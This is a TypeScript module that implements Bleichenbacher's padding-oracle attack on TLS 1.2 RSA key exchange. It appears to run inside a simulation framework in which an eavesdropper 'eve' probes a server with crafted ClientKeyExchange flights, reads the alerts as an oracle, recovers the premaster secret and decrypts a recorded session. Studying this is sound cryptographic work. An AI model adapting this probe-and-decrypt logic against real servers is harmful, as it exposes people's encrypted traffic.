import { type Bytes, concat, encode } from "../bytes/mod.ts";
import {
  bytesToInteger,
  integerToBytes,
  PREMASTER_LENGTH,
  rsaPublicOperation,
} from "../crypto/mod.ts";
import { Fault, RecordFramer, recordOf } from "../tls/mod.ts";
import type { EventId } from "../trace/mod.ts";
import {
  AlertDescription,
  ClientHello,
  ContentType,
  HandshakeType,
  ProtocolVersion,
  RsaClientKeyExchange,
} from "../wire/mod.ts";
import { openWithPremaster, type RecordedPremaster, recordedPremaster } from "./open_recording.ts";
import { searchPadded } from "./pkcs1_search.ts";
import type { Attack, Position } from "./position.ts";
import { readRecording } from "./read_recording.ts";
import type { RecordedConnection } from "./record.ts";

/** An attack on a recording, with what it has cost so far. */
export interface Decryption {
  readonly attack: Attack;
  /** How many connections she has opened to ask. */
  readonly questions: number;
  /** How many of them until the first yes; 0 before. */
  readonly untilFirstYes: number;
}

/** A server's answer to a probe: the alert, and the packet it came in. */
interface Answer {
  /** `AlertDescription` value; `undefined` if the server hung up without one. */
  readonly alert: number | undefined;
  readonly packet: EventId;
}

/**
 * Decrypts the premaster secret of a recorded session by asking the server about padding, one
 * connection for each question (Bleichenbacher, CRYPTO 1998), then opens the recording with it.
 *
 * @param connection gives the recording when the attack begins
 */
export function bleichenbacher(connection: () => RecordedConnection): Decryption {
  let questions = 0;
  let untilFirstYes = 0;
  return {
    attack(eve) {
      const recorded = connection();
      const sealed = recordedPremaster(recorded, eve);
      if (typeof sealed === "string") {
        eve.note(`${eve.name} finds no encrypted premaster secret: ${sealed}`);
        return;
      }
      const inquiry = inquire(recorded, sealed, eve, () => {
        if (untilFirstYes === 0) untilFirstYes = questions;
      });
      const ask = (step: IteratorResult<Bytes, void>) => {
        if (step.done === true) return;
        questions++;
        eve.round("probes");
        probe(eve, recorded, probeFlight(sealed, step.value, eve), (a) => ask(inquiry.next(a)));
      };
      ask(inquiry.next());
    },
    get questions() {
      return questions;
    },
    get untilFirstYes() {
      return untilFirstYes;
    },
  };
}

/** Her questions, as encrypted premaster secrets; each is put once the one before is answered. */
function* inquire(
  recorded: RecordedConnection,
  { to: key, encrypted }: RecordedPremaster,
  eve: Position,
  onYes: () => void,
): Generator<Bytes, void, Answer> {
  const { length } = encrypted;
  const bytes = (number: bigint) => integerToBytes(number, length);
  // Two blocks of her own: whoever answers them alike tells her nothing.
  const padded = 2n << BigInt(8 * (length - 2));
  const good = yield bytes(rsaPublicOperation(key, padded));
  const bad = yield bytes(rsaPublicOperation(key, padded * 2n));
  eve.endRounds("probes");
  eve.note(`To good padding the server says ${said(good)}, to bad padding ${said(bad)}`);
  if (good.alert === bad.alert) {
    eve.note(`The same answer to both: ${eve.name} gives up`);
    eve.tally({ probes: 2 });
    return;
  }
  const ciphertext = bytesToInteger(encrypted);
  const search = searchPadded(key);
  let probes = 2;
  let last = good;
  let step = search.next();
  while (step.done !== true) {
    const factor = rsaPublicOperation(key, step.value % key.modulus);
    const answer = yield bytes(ciphertext * factor % key.modulus);
    probes++;
    const yes = answer.alert === good.alert;
    if (yes) {
      last = answer;
      onYes();
    }
    step = search.next(yes);
  }
  eve.endRounds("probes");
  if (step.value === undefined) {
    eve.note(`The answers contradict each other: ${eve.name} gives up`);
    return;
  }
  const premaster = bytes(step.value).subarray(-PREMASTER_LENGTH);
  eve.note(`${eve.name} has the premaster secret, and with it all keys of the recording`);
  read(recorded, premaster, last.packet, eve);
  eve.tally({ probes });
}

/** With the premaster secret the main secret is computed, and with that the records are opened. */
function read(
  recorded: RecordedConnection,
  premaster: Bytes,
  answer: EventId,
  eve: Position,
): void {
  const mainSecret = openWithPremaster(recorded, premaster, eve).secrets.get("CLIENT_RANDOM");
  if (mainSecret === undefined) return;
  const from = [...recorded.toServer.map(({ event }) => event), answer];
  const method = "asking the server about padding";
  const [id] = eve.learn(mainSecret, { by: "computed", from, method }, answer);
  if (id === undefined) return;
  const open = (connection: RecordedConnection) => openWithPremaster(connection, premaster, eve);
  readRecording({ connections: [recorded] }, { id, open })(eve);
}

function said({ alert }: Answer): string {
  return alert === undefined ? "nothing" : AlertDescription.label(alert);
}

/**
 * All that a client has to say until its Finished, in one flight: nothing in it depends on what the
 * server says. The Finished is no good, so there is an alert in any case, and it matters which.
 */
function probeFlight({ suite }: RecordedPremaster, encrypted: Bytes, eve: Position): Bytes {
  const version = ProtocolVersion["TLS 1.2"];
  const hello = encode(ClientHello, {
    legacyVersion: version,
    random: eve.ambient.random.bytes("probe random", 32),
    legacySessionId: new Uint8Array(0),
    cipherSuites: [suite],
    legacyCompressionMethods: [0],
    extensions: undefined,
  });
  const exchange = encode(RsaClientKeyExchange, { encryptedPreMasterSecret: encrypted });
  return concat(
    recordOf(ContentType.handshake, version, message(HandshakeType.client_hello, hello)),
    recordOf(ContentType.handshake, version, message(HandshakeType.client_key_exchange, exchange)),
    recordOf(ContentType.change_cipher_spec, version, Uint8Array.of(1)),
    recordOf(ContentType.handshake, version, new Uint8Array(FINISHED_LENGTH)),
  );
}

/** About as long as a sealed Finished, in bytes. */
const FINISHED_LENGTH = 40;

function message(type: number, body: Bytes): Bytes {
  return concat(Uint8Array.of(type, 0, body.length >> 8, body.length & 0xff), body);
}

/** Puts one question. */
function probe(
  eve: Position,
  { server }: RecordedConnection,
  flight: Bytes,
  onAnswer: (answer: Answer) => void,
): void {
  eve.connect(server, {
    onOpen(line, opened) {
      const framer = new RecordFramer();
      let answered = false;
      const answer = (alert: number | undefined, packet: EventId) => {
        if (answered) return;
        answered = true;
        if (line.state === "open") line.end(packet);
        onAnswer({ alert, packet });
      };
      line.listen({
        onData(bytes, packet) {
          framer.push(bytes);
          for (let record = framer.next(); record !== undefined; record = framer.next()) {
            if (record instanceof Fault) return;
            if (record.type === ContentType.alert) answer(record.fragment[1], packet);
          }
        },
        onEnd: (packet) => answer(undefined, packet),
      });
      line.write(flight, opened);
    },
  });
}
